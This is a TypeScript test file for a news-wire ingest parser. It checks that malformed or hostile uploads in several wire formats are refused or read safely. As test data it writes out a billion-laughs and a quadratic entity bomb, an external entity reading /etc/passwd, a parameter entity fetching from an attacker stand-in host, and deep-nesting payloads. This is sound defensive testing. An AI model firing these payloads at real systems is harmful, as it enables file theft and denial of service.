/** What must never harm the desk: wires made to hang, to blow up, to fetch, or simply cut short. */
import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { FormatName } from "../../../../lib/article.ts";
import { Rejection } from "../../../../lib/rejection.ts";
import { read, rejectionOf } from "./reading.ts";

const FIXTURES = new URL("../../../fixtures/", import.meta.url);
const WIRES = ["newsml-g2", "newsml-1.2", "nitf", "ninjs", "anpa", "email"];

const fixtures = WIRES.flatMap((folder) =>
  readdirSync(new URL(`${folder}/`, FIXTURES)).map((name) => ({
    name: `${folder}/${name}`,
    bytes: new Uint8Array(readFileSync(new URL(`${folder}/${name}`, FIXTURES))),
  })),
);

/** A sound article, or a rejection; whatever else is thrown fails the test. */
async function outcome(bytes: Uint8Array | string): Promise<string> {
  try {
    const { article } = await read(bytes, "upload");
    expect(FormatName.parse(article.format)).toBe(article.format);
    expect(article.body.every(({ text }) => text !== "" && text === text.trim())).toBe(true);
    return "article";
  } catch (error) {
    if (error instanceof Rejection) return error.code;
    throw error;
  }
}

const nitf = (body: string, before = "") =>
  `<?xml version="1.0"?>${before}<nitf><body><body.content>${body}</body.content></body></nitf>`;

describe("documents that declare entities are refused unread (case 37)", () => {
  test("a billion laughs", async () => {
    const laughs = Array.from(
      { length: 9 },
      (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
    ).join("");
    const bomb = nitf("<p>&l9;</p>", `<!DOCTYPE nitf [<!ENTITY l0 "ha">${laughs}]>`);
    expect((await rejectionOf(bomb, "bomb.xml")).code).toBe("hostile");
  });

  test("a quadratic blow-up", async () => {
    const bomb = nitf(
      `<p>${"&a;".repeat(50_000)}</p>`,
      `<!DOCTYPE nitf [<!ENTITY a "${"a".repeat(50_000)}">]>`,
    );
    expect((await rejectionOf(bomb, "bomb.xml")).code).toBe("hostile");
  });

  test("an external entity", async () => {
    const thief = nitf("<p>&x;</p>", '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
    expect((await rejectionOf(thief, "thief.xml")).code).toBe("hostile");
  });
});

test("an external document type is never fetched: the story is read without it", async () => {
  const typed = nitf(
    "<p>The quay is closed.</p>",
    '<!DOCTYPE nitf [<!ENTITY % d SYSTEM "http://evil.example/d">%d;]>',
  );
  expect((await read(typed, "typed.xml")).article.body).toHaveLength(1);
});

test("a million numeric references are read or refused (case 38)", async () => {
  expect(["article", "too-large"]).toContain(await outcome(nitf(`<p>${"&#97;".repeat(1_000_000)}</p>`)));
});

test("two hundred thousand nested elements are refused (case 38)", async () => {
  const depth = 200_000;
  expect(await outcome(nitf("<b>".repeat(depth) + "</b>".repeat(depth)))).toBe("hostile");
  expect(await outcome(JSON.stringify({ uri: "x", body_html: "<b>".repeat(depth) }))).toBe("hostile");
});

test("half a million empty elements are refused", async () => {
  expect(await outcome(nitf("<p/>".repeat(500_000)))).toBe("hostile");
});

test("JSON nested by the hundred thousand is refused", async () => {
  const deep = `{"uri":"x","subject":${"[".repeat(200_000)}${"]".repeat(200_000)}}`;
  expect((await rejectionOf(deep, "deep.json")).code).toBe("hostile");
});

test("an item behind a licence of ten kilobytes is still known for what it is", async () => {
  const licensed = nitf("<p>The quay is closed.</p>", `<!--${"All rights. ".repeat(900)}-->`);
  expect((await read(licensed, "licensed.xml")).article.format).toBe("nitf");
});

test("XML of a kind that nobody here knows is refused, not printed", async () => {
  const list = '<?xml version="1.0"?><opml><body><outline text="Quay closed"/></body></opml>';
  expect((await rejectionOf(list, "list.xml")).code).toBe("unknown-format");
});

test("an archive of pages is no page", async () => {
  const archive = `quay/story.html${"\0".repeat(85)}0000644${"\0".repeat(400)}<html><body><p>The quay.</p><p>It is</p><p>closed.</p></body></html>`;
  expect((await rejectionOf(archive, "pages.tar")).code).toBe("unknown-format");
});

test("an unknown reference is left as written, and said", async () => {
  const { article } = await read(nitf("<p>Fish &nbsp;&amp; chips &whatever; tea</p>"), "tea.xml");
  expect(article.body[0]?.text).toBe("Fish & chips &whatever; tea");
  expect(article.warnings).toContainEqual(expect.objectContaining({ code: "text-repaired" }));
});

test("invalid UTF-8, and UTF-16 cut in half, are read or refused", async () => {
  const wide = new Uint8Array(Buffer.from(`\ufeff${nitf("<p>The quay is closed.</p>")}`, "utf16le"));
  expect(await outcome(wide)).toBe("article");
  expect(await outcome(wide.subarray(0, wide.length - 31))).toBe("malformed");
  const broken = Uint8Array.from([
    ...new TextEncoder().encode(nitf("<p>caf")),
    0xe9,
    ...new TextEncoder().encode("</p>"),
  ]);
  expect(["article", "malformed"]).toContain(await outcome(broken));
});

test("a line of a megabyte in every format", async () => {
  const line = "quay ".repeat(200_000);
  for (const upload of [
    nitf(`<p>${line}</p>`),
    JSON.stringify({ uri: "x", body_text: line }),
    `\u0001eca0042 4 i 20  hwa 0031\n\nQuay/\n\u0002${line}\n\n${line}\u0003`,
    `From: A B <a@b.example>\nDate: Thu, 29 Feb 2024 21:00:00 +0000\nSubject: ${line}\n\n${line}`,
  ]) {
    expect(["article", "hostile", "too-large"]).toContain(await outcome(upload));
  }
});

test("runs of one character, a third of a megabyte long, where lines and fields are looked for", async () => {
  const runs = [
    "=",
    "<",
    "^",
    "-",
    "/",
    "@",
    ">",
    "_",
    "#",
    ".",
    "=20",
    "a@",
    " \t",
    "By ",
    "Jan ",
    ": ",
    "--\n",
    "From: a\n",
  ];
  for (const run of runs) {
    const long = run.repeat(Math.ceil(300_000 / run.length));
    for (const upload of [
      nitf(`<p>${long.replaceAll("<", "&lt;")}x</p>`),
      `<newsItem guid="g"><contentMeta><dateline>${long.replaceAll("<", "")}x</dateline><subject uri="${long.replaceAll("<", "")}x"/><by>${long.replaceAll("<", "")}x</by></contentMeta></newsItem>`,
      JSON.stringify({ uri: `${long}x`, byline: `${long}x`, dateline: `${long}x`, body_text: `${long}x` }),
      `\u0001eca0042 4 i 20  hwa 0031${long}x\n\u0002${long}x\n\n${long}x\u0003${long}`,
      `From: A B <a@b.example>\nDate: Thu, 29 Feb 2024 21:00:00 +0000\nSubject: Quay\n\nThe quay is closed.\n\n${long}x\n${long}\n`,
    ]) {
      await outcome(upload);
    }
  }
}, 600_000);

test.each(fixtures)("$name, cut anywhere, is an article or a rejection", async ({ bytes }) => {
  for (let part = 1; part < 20; part++)
    await outcome(bytes.subarray(0, Math.floor((bytes.length * part) / 20)));
});

test("XML cut short is malformed: what is missing might be its embargo", async () => {
  for (const { name, bytes } of fixtures.filter(({ name: file }) => file.endsWith(".xml"))) {
    expect([name, await outcome(bytes.subarray(0, bytes.length - 40))]).toEqual([name, "malformed"]);
  }
});

test("wires with any bytes changed, lost or doubled are articles or rejections", async () => {
  const change = fc.record({
    fixture: fc.nat(fixtures.length - 1),
    edits: fc.array(
      fc.record({
        at: fc.nat(),
        remove: fc.nat(40),
        insert: fc.oneof(
          fc.string({ maxLength: 12 }),
          fc.constantFrom(
            "<p>",
            "</",
            "<![CDATA[",
            "&#x0;",
            "]]>",
            "\u0002",
            "\u0003",
            '"',
            "{",
            "}",
            "--b1",
            "\r\n\r\n",
            "<!--",
          ),
        ),
      }),
      { minLength: 1, maxLength: 6 },
    ),
  });
  await fc.assert(
    fc.asyncProperty(change, async ({ fixture, edits }) => {
      let upload = Buffer.from(fixtures[fixture]!.bytes);
      for (const { at, remove, insert } of edits) {
        const place = at % (upload.length + 1);
        upload = Buffer.concat([
          upload.subarray(0, place),
          Buffer.from(insert),
          upload.subarray(place + remove),
        ]);
      }
      await outcome(new Uint8Array(upload));
    }),
    { numRuns: 400 },
  );
});

test.each([300, 20_000])(
  "%i elements, each in the one before, are refused, wherever they stand",
  async (depth) => {
    const nest = `${"<b>".repeat(depth)}${"</b>".repeat(depth)}`;
    expect(await outcome(nitf(nest))).toBe("hostile");
    expect(
      await outcome(nitf("<p>The quay is closed.</p>").replace("<nitf>", `<nitf><head>${nest}</head>`)),
    ).toBe("hostile");
  },
);
